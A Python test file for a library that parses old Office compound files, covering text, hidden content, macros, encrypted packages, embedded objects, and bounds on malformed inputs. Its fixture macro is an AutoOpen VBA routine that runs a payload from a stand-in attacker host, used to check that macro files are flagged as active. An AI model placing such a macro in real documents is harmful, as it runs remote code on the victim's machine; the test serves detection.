"""OLE compound files: Word, Excel and PowerPoint 97, macros, encrypted packages, packed objects."""

from __future__ import annotations

import struct
import time

import pytest

from glassdome.files.vba import decompress
from tests.unit.files.made import DATA, read_bytes, sample, words_of, xlsx, zipped
from tests.unit.files.made_ole import compound

MODULE = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
  CreateObject("WScript.Shell").Run "https://evil.example/load.exe"
End Sub
"""


def _packed(text: str) -> bytes:
    """Write a compressed container (MS-OVBA 2.4.1) of literal bytes."""
    raw = text.encode("cp1252")
    chunk = b"".join(b"\0" + raw[at : at + 8] for at in range(0, len(raw), 8))
    return b"\x01" + struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk


def _project(text: str = MODULE) -> bytes:
    return compound({"VBA/dir": b"x", "VBA/ThisDocument": b"p-code" * 9 + _packed(text), "PROJECT": b"x"})


def test_words_of_a_word_97_document() -> None:
    """The pieces of a document by an office program are read, with notes, headers and links."""
    found = sample("office/letter.doc")

    for words in ("Invoice 1187 café", "header words", "footnoteword", "textboxword", "Paper\t700.00", "東京"):
        assert words in words_of(found)
    assert "deletedword" not in words_of(found) + words_of(found, seen=False)
    assert words_of(found, seen=False) == "hiddenword"
    assert [(link.url, link.shown) for link in found.links] == [
        ("https://pay.kesselring.example/login", "the customer page")
    ]
    assert not found.is_active


def test_cells_of_an_excel_97_workbook() -> None:
    """Cells, dates, links and hidden sheets of a workbook by an office program are read."""
    found = sample("office/orders.xls")

    assert "Envelopes & paper\t2025-03-04\t1842.50 €" in words_of(found, "sheet Orders")
    assert "hiddensheetword" in words_of(found, "sheet Secret", seen=False)
    assert [link.url for link in found.links] == ["https://portal.kesselring.example/orders"]
    assert ("number", "15.5", "sheet Orders, cell B3") in {(f.type, f.value, f.where) for f in found.facts}


def test_slides_of_a_powerpoint_97_presentation() -> None:
    """Slides, notes and links of a presentation by an office program are read."""
    found = sample("office/deck.ppt")

    assert "titleword" in words_of(found, "slide 1")
    assert "18 March 2025" in words_of(found, "slide 2")
    assert "notesword" in words_of(found, "notes")
    assert "hiddenslideword" in words_of(found, "slide 3", seen=False)
    assert [link.url for link in found.links] == ["https://deck.kesselring.example/join"]


def test_macros_are_told() -> None:
    """A VBA project makes the file active; the procedures that run by themselves and its links are named."""
    found = read_bytes(_project())

    assert found.is_active
    assert {"AutoOpen", "CreateObject", "WScript.Shell"} <= set(words_of(found, "macro", seen=False).split("\n"))
    assert [link.url for link in found.links] == ["https://evil.example/load.exe"]


def test_a_project_without_code_is_not_active() -> None:
    """A module of attributes alone runs nothing."""
    assert not read_bytes(_project('Attribute VB_Name = "Sheet1"\nOption Explicit\n')).is_active


def test_macros_in_a_package_are_told() -> None:
    """The macros of a docm are a file inside it."""
    data = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", "word/vbaProject.bin": _project()})

    assert read_bytes(data).is_active


def test_a_container_repeats_earlier_bytes() -> None:
    """The copy tokens of a compressed container are followed (the example of MS-OVBA 3.2.2)."""
    packed = bytes.fromhex(
        "01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C"
    )

    assert decompress(packed) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"


@pytest.mark.parametrize("name", ["agile.xlsx", "agile.docx"])
def test_an_encrypted_package_opens_with_a_password_of_the_mail(name: str) -> None:
    """Without its password an encrypted file says so; with it, its words are read."""
    data = (DATA / "office" / name).read_bytes()
    closed, opened = read_bytes(data, name), read_bytes(data, name, wrong="other", right="Sommer2025!")

    assert closed.read == "encrypted"
    assert closed.encrypted
    assert opened.encrypted
    assert "DE02 1203" in opened.files[0].document.text or "4111 1111" in opened.files[0].document.text


def test_a_packed_object_is_a_file_inside() -> None:
    """A file that the packager embedded has its name and its bytes."""
    inner = xlsx('<sheetData><row><c t="inlineStr"><is><t>inside</t></is></c></row></sheetData>')
    body = b"\x02\0" + b"order.xlsx\0" + b"C:\\order.xlsx\0" + bytes(4) + struct.pack("<I", 3) + b"C:\0"
    body += struct.pack("<I", len(inner)) + inner
    found = read_bytes(compound({"\x01Ole10Native": struct.pack("<I", len(body)) + body}))

    assert found.members == ("order.xlsx",)
    assert "inside" in found.files[0].document.text


def test_a_workbook_that_claims_all_cells_is_bounded() -> None:
    """A sheet whose two cells stand in opposite corners costs two cells."""
    begin = struct.pack("<HHHHHH", 0x0809, 8, 0x0600, 0x0010, 0, 0)
    end = struct.pack("<HH", 0x000A, 0)
    cells = b"".join(struct.pack("<HHHHHd", 0x0203, 14, row, row // 257, 0, row + 0.5) for row in (0, 65535))
    name = struct.pack("<IBBBB", len(begin) + 4 + 9 + len(end), 0, 0, 1, 0) + b"S"
    found = read_bytes(compound({"Workbook": begin + struct.pack("<HH", 0x0085, 9) + name + end + begin + cells + end}))

    assert words_of(found, "sheet S") == "0.5\n65535.5"


def test_strings_that_go_on_in_further_records() -> None:
    """A string cut between two records says anew how wide its letters are (MS-XLS 2.4.265)."""
    begin, end = struct.pack("<HHHHHH", 0x0809, 8, 0x0600, 0x0010, 0, 0), struct.pack("<HH", 0x000A, 0)
    first = struct.pack("<II", 2, 2) + struct.pack("<HB", 4, 0) + b"abcd" + struct.pack("<HB", 5, 0) + b"Ge"
    more = b"\x01" + "r\u00e4\u6771".encode("utf-16-le")
    table = struct.pack("<HH", 0x00FC, len(first)) + first + struct.pack("<HH", 0x003C, len(more)) + more
    name = struct.pack("<IBBBB", len(begin) + 13 + len(table) + len(end), 0, 0, 1, 0) + b"S"
    cell = struct.pack("<HHHHHI", 0x00FD, 10, 0, 0, 0, 1)
    data = begin + struct.pack("<HH", 0x0085, 9) + name + table + end + begin + cell + end

    assert words_of(read_bytes(compound({"Workbook": data}))) == "Ger\u00e4\u6771"


def test_a_picture_in_a_document_is_a_file_inside() -> None:
    """A picture in the stream of an old document is cut out to its end."""
    picture = b"\x89PNG\r\n\x1a\n" + bytes(300) + b"IEND\xae\x42\x60\x82"
    drawn = read_bytes(compound({"PowerPoint Document": bytes(100), "Pictures": b"head" * 6 + picture + b"tail" * 9}))

    assert [(item.name, item.size) for item in drawn.files] == [("image 1.png", len(picture))]


def test_loops_in_the_allocation_table_end() -> None:
    """A file whose sectors lead back to themselves is read at once, or said to be damaged."""
    data = bytearray((DATA / "office" / "letter.doc").read_bytes())
    begin = time.perf_counter()
    places = struct.unpack_from("<109I", data, 76)
    for place in [place for place in places if place != 0xFFFFFFFF]:
        at = 512 * (place + 1)
        for entry in range(128):
            if struct.unpack_from("<I", data, at + 4 * entry)[0] < 0xFFFFFFF0:
                struct.pack_into("<I", data, at + 4 * entry, entry % 7)

    assert read_bytes(bytes(data)).kind
    assert time.perf_counter() - begin < 2


@pytest.mark.parametrize("name", ["letter.doc", "orders.xls"])
def test_truncated_files_never_raise(name: str) -> None:
    """A file that ends early is read as far as it goes."""
    data = (DATA / "office" / name).read_bytes()

    assert {read_bytes(data[:size]).read for size in range(8, len(data), 509)} <= {"yes", "damaged", "unsupported"}


def test_pieces_that_show_one_place_many_times_are_bounded() -> None:
    """A table of ten thousand pieces, each of the whole stream, costs no more than the bounds."""
    main = bytearray(1_000_000)
    struct.pack_into("<HH", main, 0, 0xA5EC, 0x00C1)
    places = b"".join(struct.pack("<I", 900_000 * number) for number in range(4_000))
    plc = places + struct.pack("<I", 0xFFFFFFF0) + struct.pack("<HIH", 0, 0x40000000, 0) * 4_000
    clx = b"\x02" + struct.pack("<I", len(plc)) + plc
    struct.pack_into("<II", main, 0x01A2, 0, len(clx))
    begin = time.perf_counter()

    assert read_bytes(compound({"WordDocument": bytes(main), "0Table": clx})).kind == "application/msword"
    assert time.perf_counter() - begin < 2


def test_a_size_beyond_the_file_is_no_memory() -> None:
    """A root whose small streams are said to fill three gigabytes costs no more than the file."""
    data = bytearray(
        compound({"__properties_version1.0": bytes(40), "__substg1.0_0037001F": "Hello".encode("utf-16-le")})
    )
    root = data.find("Root Entry".encode("utf-16-le"))
    struct.pack_into("<I", data, root + 120, 3_523_216_000)
    sector = struct.unpack_from("<I", data, root + 116)[0]
    struct.pack_into("<I", data, 512 * (struct.unpack_from("<I", data, 76)[0] + 1) + 4 * sector, sector)
    begin = time.perf_counter()

    assert read_bytes(bytes(data)).kind
    assert time.perf_counter() - begin < 1
